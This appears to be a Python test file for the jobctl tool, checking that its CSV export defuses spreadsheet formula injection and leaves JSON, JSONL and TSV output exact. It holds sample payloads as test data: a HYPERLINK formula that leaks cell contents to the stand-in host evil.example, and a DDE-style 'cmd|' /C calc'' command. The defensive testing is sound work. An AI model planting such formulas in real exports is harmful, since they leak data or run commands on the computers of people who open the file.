"""CSV formula injection: text from rows that a spreadsheet would run is written as text.

OWASP's rule: a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
written after a single quote. Only in CSV (the format people open in a spreadsheet), only for
text (jobctl's own numbers stay numbers); JSON, JSON lines and TSV keep the exact data.
"""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import json
import uuid

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jobctl.render import output

LINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _render(rows, fmt: output.Output, *, tty: bool = False, streamed: bool = False) -> str:
    stream = io.StringIO()
    stream.isatty = lambda: tty  # type: ignore[method-assign]
    section = output.Section(None, iter(rows) if streamed else rows)
    output.render(output.Document(iter(rows) if streamed else rows, [section]), fmt, None, stream)
    return stream.getvalue()


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("streamed", [False, True])
def test_text_a_spreadsheet_would_run_is_written_after_a_quote(start, streamed):
    text = f"{start}cmd|' /C calc'!A0"
    table = _csv(_render([{"id": 1, "reserved_by": text}], output.Output.csv, streamed=streamed))
    assert table == [["id", "reserved_by"], ["1", "'" + text]]


def test_a_worker_named_like_a_hyperlink_is_no_link_in_the_csv():
    rows = [{"id": 7, "reserved_by": LINK, "action": "requeue"}]
    written = _render(rows, output.Output.csv)
    assert _csv(written)[1] == ["7", "'" + LINK, "requeue"]
    assert "\n=" not in written and ",=" not in written and ',"=' not in written


def test_the_exact_data_stays_in_json_jsonl_and_tsv():
    rows = [{"id": 7, "reserved_by": LINK}]
    assert json.loads(_render(rows, output.Output.json))[0]["reserved_by"] == LINK
    assert json.loads(_render(rows, output.Output.jsonl))["reserved_by"] == LINK
    assert _render(rows, output.Output.tsv).splitlines()[1] == f"7\t{LINK}"


def test_numbers_and_plain_text_are_as_they_were():
    """A negative number jobctl formats (an at-risk lease's overdue) stays a number; text that
    only contains a formula character later is left as it is."""
    rows = [{"overdue_s": -12.5, "n": -3, "d": decimal.Decimal("-1.5"), "w": "web-3", "e": "a=b"}]
    assert _csv(_render(rows, output.Output.csv))[1] == ["-12.5", "-3", "-1.5", "web-3", "a=b"]


def test_on_a_terminal_the_cell_is_safe_and_visible():
    rows = [{"w": "=1+1\x1b[31m"}]
    assert _render(rows, output.Output.csv, tty=True).splitlines()[1] == "'=1+1\\x1b[31m"


def test_a_column_named_like_a_formula_is_quoted_too():
    """``show -o csv`` names the table's own columns: the application chose them."""
    assert _csv(_render([{"=cmd": 1}], output.Output.csv))[0] == ["'=cmd"]


VALUES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False),
    st.text(),
    st.sampled_from(["=a", "+1", "-x", "@y", "\tz", "\rw", "", "'", "-"]),
    st.datetimes(timezones=st.just(dt.timezone.utc)),
    st.uuids(),
    st.decimals(allow_nan=False, allow_infinity=False),
    st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
)


def _written(cells) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(cells)
    return buffer.getvalue()


@given(st.lists(VALUES, max_size=20))
def test_the_fast_path_writes_what_a_call_per_value_writes(values):
    """csv_cells skips the call for what needs none; the line is the same either way."""
    assert _written(output.csv_cells(values)) == _written([output._csv_cell(v) for v in values])


@pytest.mark.parametrize("streamed", [False, True])
def test_a_carriage_return_inside_a_value_is_quoted(streamed):
    """RFC 4180: a field holding a line break is quoted, a lone CR too, so a reader keeps the
    row whole; every row still ends with "\n"."""
    rows = [{"id": 1, "w": "a\rb"}, {"id": 2, "w": "plain"}, {"id": 3, "w": "c\r\nd"}]
    written = _render(rows, output.Output.csv, streamed=streamed)
    assert _csv(written) == [["id", "w"], ["1", "a\rb"], ["2", "plain"], ["3", "c\r\nd"]]
    assert written.endswith('3,"c\r\nd"\n') and "\r\n2" not in written


def test_csv_text_of_every_start():
    assert [output.csv_text(t) for t in ("=a", "a", "", "-", "'=a")] == [
        "'=a",
        "a",
        "",
        "'-",
        "'=a",
    ]
    assert output._csv_cell(uuid.UUID(int=1)) == "00000000-0000-0000-0000-000000000001"
